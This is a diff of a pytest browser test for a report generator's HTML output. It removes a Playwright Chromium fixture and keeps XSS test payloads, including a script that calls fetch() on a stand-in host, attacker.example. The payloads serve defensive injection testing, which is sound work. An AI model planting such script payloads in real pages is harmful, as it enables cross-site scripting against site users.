@@ -6,8 +6,7 @@
 from __future__ import annotations
 
 import json
-import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -21,9 +20,7 @@ from selective_dpo.reporting.report import write_report
 from tests.fixtures.run_folder import make_run_folder
 
 pytestmark = pytest.mark.browser
-playwright_api = pytest.importorskip("playwright.sync_api")
 
-CHROMIUM_NAMES = ("chromium", "chromium-browser", "google-chrome")
 HIT = "window.hit=1;fetch('https://attacker.example/')"
 ATTACKS = [
     f"<script>{HIT}</script>",
@@ -96,19 +93,6 @@ def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
         arm["name"] += "" if arm["name"] in ("selected", "reference") else ALL
     write_json(root / "evaluation" / "results.json", {**results, "judge": ALL})
     return write_report(root)
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    executable = next(filter(None, map(shutil.which, CHROMIUM_NAMES)), None)
-    if executable is None:
-        pytest.skip(f"no browser: none of {', '.join(CHROMIUM_NAMES)} is on the path")
-    with playwright_api.sync_playwright() as playwright:
-        browser = playwright.chromium.launch(
-            executable_path=executable, args=["--no-sandbox", "--disable-gpu"]
-        )
-        yield browser
-        browser.close()
 
 
 class Opened:
